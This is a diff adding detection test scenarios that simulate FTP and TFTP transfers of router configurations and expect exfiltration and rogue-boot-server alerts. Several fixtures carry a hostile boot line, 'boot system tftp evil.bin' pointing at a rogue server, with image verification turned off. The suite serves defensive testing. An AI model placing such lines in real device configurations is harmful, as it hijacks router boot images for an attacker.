@@ -161,3 +161,56 @@ def bw08_prose_about_it(wire: Wire) -> None:
     ftp.retrieve(wire, "10.20.1.40", "10.20.0.9", "manual.txt", manual)
     http.get(wire, "10.20.1.40", "93.184.216.34", "/manual.txt", manual, kind="text/plain", client_port=50082)
     tftp.read(wire, "10.20.1.40", SERVER, "manual.txt", manual)
+
+
+@scenario(
+    "BW08",
+    "malicious",
+    raises=[("BW08", 1542007797, DEVICE, "10.20.0.9"), ("BW08", 1542007798, "10.0.1.2", "10.20.0.9")],
+    site=HQ,
+    with_site=Expect(
+        tuple(
+            notice
+            for number, device in enumerate((DEVICE, "10.0.1.2"), 1)
+            for notice in (
+                Notice("Config_Exfiltration", device, "10.20.0.9", f"edge{number}.cfg"),
+                served(f"edge{number}.cfg", device=device),
+            )
+        )
+    ),
+)
+def bw08_stored_by_ftp(wire: Wire) -> None:
+    """Two devices store configurations with a rogue boot line by FTP, passive and active."""
+    text = config("edge1", (f"boot system tftp evil.bin {ROGUE}",))
+    ftp.store(wire, DEVICE, "10.20.0.9", "edge1.cfg", text)
+    ftp.store(wire, "10.0.1.2", "10.20.0.9", "edge2.cfg", text, active=True)
+
+
+@scenario(
+    "BW08",
+    "malicious",
+    raises=[("BW08", 1542007796, "10.20.0.9", DEVICE)],
+    raises_with_site=[("BW08", 1542007796, "10.20.0.9", DEVICE), ("BW10", 23, "10.20.0.9", DEVICE)],
+    site=HQ,
+    with_site=Expect(
+        (Notice("Unauthorized_Boot_Server", DEVICE, "10.20.0.9", "edge1.cfg"), served("edge1.cfg")),
+    ),
+)
+def bw08_fetched_by_active_ftp(wire: Wire) -> None:
+    """A device fetches a configuration with a rogue boot line by FTP in active mode."""
+    text = config("edge1", (f"boot system tftp evil.bin {ROGUE}",))
+    ftp.retrieve(wire, DEVICE, "10.20.0.9", "edge1.cfg", text, active=True)
+
+
+@scenario("BW08", "benign")
+def bw08_texts_for_people(wire: Wire) -> None:
+    """Texts for people, by their first lines: titles, steps, mails, pages; each shows the very lines."""
+    order = f"\n\nboot system tftp evil.bin {ROGUE}\nno file verify auto\n"
+    heads = (
+        *("README", "HOW TO BOOT A ROUTER", "Netboot howto\n=============", "; notes\nUse this:", "1. Configure:"),
+        *("From: noc@corp.example\nSubject: boot", "\xef\xbb\xbfWie man einen Router startet", "<pre>", "%PDF-1.4"),
+    )
+    for number, head in enumerate(heads):
+        text = (head + order).encode("latin-1")
+        tftp.read(wire, "10.20.1.40", SERVER, f"howto{number}.txt", text, client_port=40100 + number)
+        ftp.retrieve(wire, "10.20.1.40", "10.20.0.9", "howto.txt", text, client_port=50200 + number)
